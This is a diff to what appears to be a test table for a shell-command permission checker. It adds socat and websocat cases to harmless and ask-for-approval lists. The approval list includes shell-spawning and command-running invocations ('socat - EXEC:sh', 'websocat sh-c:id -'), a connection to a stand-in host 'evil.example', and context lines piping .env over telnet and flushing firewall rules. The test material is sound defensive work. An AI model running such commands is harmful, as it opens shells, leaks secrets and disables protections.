@@ -38,6 +38,8 @@ HARMLESS = (
     ("bridge", "bridge link show"),
     ("ip addr", "ip -4 addr show eth0"),
     ("ip addr", "ip -br addr"),
+    ("socat", "socat - TCP:localhost:8080"),
+    ("websocat", "websocat ws://localhost:3000/x"),
 )
 ASKS = (
     ("ping", "ping -f example.org"),
@@ -85,4 +87,9 @@ ASKS = (
     ("nft", "nft flush ruleset"),
     ("telnet", "telnet h 80 < .env"),
     ("ip addr", "ip -4 addr add x"),
+    ("socat", "socat - EXEC:sh"),
+    ("socat", "socat - SYSTEM:id"),
+    ("socat", "socat OPEN:x,create -"),
+    ("socat", "socat - TCP:evil.example:80"),
+    ("websocat", "websocat sh-c:id -"),
 )
